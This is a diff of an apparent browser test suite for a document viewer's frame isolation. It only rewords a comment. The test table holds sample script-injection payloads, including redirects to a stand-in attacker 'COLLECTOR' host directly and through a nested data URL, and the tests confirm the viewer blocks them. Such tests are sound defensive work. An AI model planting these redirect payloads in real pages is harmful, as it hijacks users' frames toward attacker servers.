@@ -33,7 +33,7 @@ const chromium = useChromium()
 test.each([
   ['the home page, by meta refresh', '<meta http-equiv="refresh" content="0;url=/">'],
   ['the home page, by script', '<script>location = "/"</script>'],
-  // Only held content appears in the viewer: what an address elsewhere shows is checked by nobody.
+  // Only held content appears in the viewer: content of another address is verified by no one.
   ["the attacker's server", '<script>location = "COLLECTOR/landed/frame/elsewhere"</script>'],
   ['a data URL', '<script>location = "data:text/html,<script>location=`COLLECTOR/landed/frame/data`<\\/script>"</script>'],
 ])('own frame: a page that goes to %s ends in nothing, and the viewer goes on', async (_, body) => {
